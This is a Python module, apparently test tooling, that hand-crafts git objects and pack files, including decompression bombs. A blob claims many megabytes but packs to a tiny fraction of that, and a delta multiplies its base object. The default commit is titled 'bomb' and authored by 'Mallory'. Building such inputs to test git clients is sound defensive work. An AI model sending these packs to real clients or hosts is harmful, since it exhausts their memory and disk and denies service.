"""Git objects and packs written by hand: what no git would make, and any git host can send.

A pack is `PACK`, version, count, the objects each deflated, and the SHA-1 of it all (gitformat-pack(5)).
"""

from __future__ import annotations

import hashlib
import zlib
from collections.abc import Iterable

COMMIT, TREE, BLOB, REF_DELTA = 1, 2, 3, 7
KINDS = {COMMIT: "commit", TREE: "tree", BLOB: "blob"}
MIB = 1 << 20
_ZEROS = bytes(MIB)


def name(kind: int, content: bytes) -> str:
    """What git calls the object."""
    return hashlib.sha1(f"{KINDS[kind]} {len(content)}\0".encode() + content).hexdigest()


def tree(entries: Iterable[tuple[str, str, str]]) -> bytes:
    """A tree of (mode, file name, object), in the order they come."""
    return b"".join(f"{mode} {file}\0".encode() + bytes.fromhex(thing) for mode, file, thing in entries)


def commit(top: str, message: str = "bomb", parent: str = "") -> bytes:
    """A commit of a tree."""
    who = "Mallory <mallory@example.org> 1767225600 +0000"
    line = f"parent {parent}\n" if parent else ""
    return f"tree {top}\n{line}author {who}\ncommitter {who}\n\n{message}\n".encode()


def packed(kind: int, content: bytes) -> bytes:
    """One object of a pack."""
    return _header(kind, len(content)) + zlib.compress(content, 1)


def zeros(size: int, first: bytes = b"") -> bytes:
    """A blob of a few bytes and then zeros, `size` MiB long: a thousandth of that in a pack.

    A piece that ends in a full flush can be repeated. Adler-32 of zeros is arithmetic (RFC 1950, section 9).
    """
    deflating = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = deflating.compress(_ZEROS) + deflating.flush(zlib.Z_FULL_FLUSH)
    begin = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = begin.compress(first + _ZEROS[len(first) :]) + begin.flush(zlib.Z_FULL_FLUSH)
    low, high = (lambda sum_: (sum_ & 0xFFFF, sum_ >> 16))(zlib.adler32(first + _ZEROS[len(first) :]))
    high = (high + low * (size - 1) * MIB) % 65521
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    deflated = b"\x78\x9c" + head + piece * (size - 1) + end + (high << 16 | low).to_bytes(4, "big")
    return _header(BLOB, size * MIB) + deflated


def multiplied(base: str, base_size: int, times: int) -> bytes:
    """A delta that says: `times` the base, of at most 65,535 bytes."""
    copy = b"\xb0" + base_size.to_bytes(2, "little")
    delta = _size(base_size) + _size(base_size * times) + copy * times
    return _header(REF_DELTA, len(delta)) + bytes.fromhex(base) + zlib.compress(delta, 9)


def pack(objects: Iterable[bytes]) -> bytes:
    """The pack of objects that are `packed`."""
    parts = list(objects)
    body = b"PACK" + (2).to_bytes(4, "big") + len(parts).to_bytes(4, "big") + b"".join(parts)
    return body + hashlib.sha1(body).digest()


def _header(kind: int, size: int) -> bytes:
    first, size = kind << 4 | size & 15, size >> 4
    return bytes([first | 128]) + _size(size) if size else bytes([first])


def _size(size: int) -> bytes:
    out = bytearray()
    while size > 127:
        out.append(size & 127 | 128)
        size >>= 7
    return bytes([*out, size])
